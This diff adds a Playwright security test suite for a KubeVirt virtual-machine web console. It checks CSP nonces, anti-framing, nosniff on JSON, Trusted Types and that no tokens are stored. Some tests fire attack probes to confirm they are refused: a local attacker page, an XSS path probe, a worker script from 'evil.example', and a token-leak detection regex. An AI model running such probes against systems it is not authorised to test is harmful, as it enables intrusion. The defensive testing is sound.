@@ -1,0 +1,154 @@
+// What the browser itself is told to refuse: framing, other scripts, documents out of answers, and what it is not left with.
+import type { BrowserContext } from '@playwright/test'
+import { expect, openAs, test } from './fixtures.ts'
+
+const goldenPolicy = (nonce: string) =>
+  `default-src 'none';script-src 'nonce-${nonce}' 'strict-dynamic';style-src-elem 'self' 'nonce-${nonce}';style-src-attr 'none';` +
+  `img-src 'self' data:;font-src 'self';connect-src 'self';worker-src 'self';manifest-src 'self';form-action 'self';frame-src 'none';` +
+  `frame-ancestors 'none';base-uri 'none';object-src 'none';require-trusted-types-for 'script';trusted-types virtdeck`
+
+test('every page comes with the policy, word for word, and a nonce of its own [X-08]', async ({ page, stack }) => {
+  await openAs(page, stack, 'operator', '/virtual-machines')
+  const nonces = new Set<string>()
+  const paths = ['/', '/virtual-machines', '/virtual-machines/team-a/web-01', '/templates', '/sign-in', '/console/team-a/web-01', '/zzz']
+  for (const path of Array.from({ length: 70 }, (_, index) => paths[index % paths.length] ?? '/')) {
+    const answer = await page.request.get(path, { headers: { accept: 'text/html', 'sec-fetch-mode': 'navigate' } })
+    const nonce = /<script[^>]* nonce="([^"]+)"/.exec(await answer.text())?.[1] ?? ''
+    expect([path, answer.headers()['content-security-policy']]).toEqual([path, goldenPolicy(nonce)])
+    expect(Buffer.from(nonce, 'base64')).toHaveLength(16)
+    nonces.add(nonce)
+  }
+  expect(nonces.size).toBe(70)
+})
+
+/** A page of the same origin or of another that does what `body` says. */
+async function attacker(context: BrowserContext, origin: string, body: string) {
+  const { createServer } = await import('node:http')
+  const server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>${body}`))
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as { port: number }
+  const page = await context.newPage()
+  await page.goto(`http://localhost:${port}/`)
+  return { page, origin, [Symbol.asyncDispose]: async () => void (await page.close(), server.close()) }
+}
+
+test.describe('another origin', () => {
+  // What is tried here is what the fixture would complain of.
+  test.use({ quietConsole: async ({ browserName: _ }, provide) => provide(undefined) })
+
+  test('can neither frame a page, nor read an answer as script, picture or document [X-07] [X-10]', async ({ page, context, stack }) => {
+    await openAs(page, stack, 'operator', '/virtual-machines')
+    const targets = ['/virtual-machines', '/api/session', '/k8s/apis/kubevirt.io/v1/virtualmachines']
+    const body = targets
+      .map(
+        (path) => `<iframe src="${stack.url}${path}"></iframe><script src="${stack.url}${path}"></script><img src="${stack.url}${path}">`,
+      )
+      .join('')
+    await using evil = await attacker(context, stack.url, body)
+    await evil.page.waitForLoadState('load')
+    for (const frame of evil.page.frames().slice(1)) expect(frame.url()).toMatch(/^(chrome-error:.*|about:blank|)$/)
+    expect(await evil.page.locator('img').evaluateAll((images) => images.map((image) => (image as HTMLImageElement).naturalWidth))).toEqual(
+      [0, 0, 0],
+    )
+    const read = await evil.page.evaluate(
+      (urls) =>
+        Promise.all(
+          urls.map((url) =>
+            fetch(url, { credentials: 'include' }).then(
+              () => 'read',
+              () => 'refused',
+            ),
+          ),
+        ),
+      targets.map((path) => stack.url + path),
+    )
+    expect(read).toEqual(['refused', 'refused', 'refused'])
+    const opened = context.waitForEvent('page')
+    await evil.page.evaluate((url) => void Object.assign(globalThis, { opened: window.open(url) }), `${stack.url}/virtual-machines`)
+    await (await opened).waitForLoadState()
+    expect(await evil.page.evaluate(() => (globalThis as unknown as { opened: Window }).opened.closed)).toBe(true)
+  })
+
+  test('an answer of the API that is opened directly is no document with scripts [X-10]', async ({ page, stack }) => {
+    await openAs(page, stack, 'operator', '/virtual-machines')
+    for (const path of [
+      '/api/session',
+      '/k8s/apis/kubevirt.io/v1/namespaces/team-a/virtualmachines/web-01',
+      '/k8s/zzz<script>alert(1)</script>',
+    ]) {
+      const answer = await page.goto(path)
+      expect(answer?.headers()).toMatchObject({
+        'content-type': expect.stringContaining('application/json'),
+        'x-content-type-options': 'nosniff',
+      })
+      expect(answer?.headers()['content-security-policy']).toBe("default-src 'none';frame-ancestors 'none';sandbox")
+      expect(await page.locator('script, img, iframe, a').count()).toBe(0)
+    }
+  })
+
+  test('no script makes code or markup of text, and only the policy virtdeck may be made [X-12]', async ({ page, stack }) => {
+    await openAs(page, stack, 'operator', '/virtual-machines')
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    const outcomes = await page.evaluate(() => {
+      const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+      const attempts: Record<string, () => unknown> = {
+        innerHTML: () => (document.createElement('div').innerHTML = '<b>x</b>'),
+        outerHTML: () => (document.body.firstElementChild!.outerHTML = '<b>x</b>'),
+        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
+        write: () => document.write('<b>x</b>'),
+        srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
+        scriptText: () => (document.createElement('script').text = 'x'),
+        scriptSrc: () => (document.createElement('script').src = '/x.js'),
+        parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+        fragment: () => document.createRange().createContextualFragment('<b>x</b>'),
+        worker: () => new Worker('//evil.example/x.js'),
+        policy: () => trustedTypes.createPolicy('other', {}),
+        defaultPolicy: () => trustedTypes.createPolicy('default', {}),
+      }
+      return Object.entries(attempts).map(([name, attempt]) => {
+        try {
+          attempt()
+          return `${name} worked`
+        } catch {
+          return 'refused'
+        }
+      })
+    })
+    expect(new Set(outcomes)).toEqual(new Set(['refused']))
+  })
+})
+
+test('neither storage, addresses nor history keep a token, a ticket or a cookie, and no script reads one [X-13]', async ({
+  page,
+  context,
+  stack,
+}) => {
+  const addresses: string[] = []
+  context.on('request', (request) => addresses.push(request.url()))
+  page.on('websocket', (socket) => addresses.push(socket.url()))
+  await openAs(page, stack, 'admin', '/virtual-machines')
+  for (const path of [
+    '/virtual-machines/team-a/web-01',
+    '/virtual-machines/team-a/web-01/yaml',
+    '/virtual-machines/team-a/web-01/console?kind=serial',
+  ]) {
+    await page.goto(path)
+    await expect(page.getByRole('heading', { level: 1, name: 'web-01' })).toBeVisible()
+  }
+  const { csrf } = (await (await page.request.get('/api/session')).json()) as { csrf: string }
+  const cookies = (await context.cookies()).map(({ name, value, httpOnly, sameSite }) => ({ name, value, httpOnly, sameSite }))
+  expect(cookies.length).toBeGreaterThan(0)
+  for (const cookie of cookies) expect(cookie).toMatchObject({ httpOnly: true, sameSite: expect.stringMatching(/Strict|Lax/) })
+  const kept = await page.evaluate(async () => ({
+    local: Object.entries(localStorage),
+    session: Object.entries(sessionStorage),
+    cookie: document.cookie,
+    databases: await indexedDB.databases(),
+    caches: await caches.keys(),
+    state: JSON.stringify(history.state),
+  }))
+  expect(kept).toMatchObject({ cookie: '', databases: [], caches: [] })
+  const text = JSON.stringify([kept, addresses])
+  for (const secret of [csrf, ...cookies.map(({ value }) => value)]) expect(text).not.toContain(secret)
+  expect(text).not.toMatch(/eyJ[\w-]{10,}\.|virtdeck\.ticket\.|[?&](token|ticket|access_token|authorization)=|#cloud-config/i)
+})
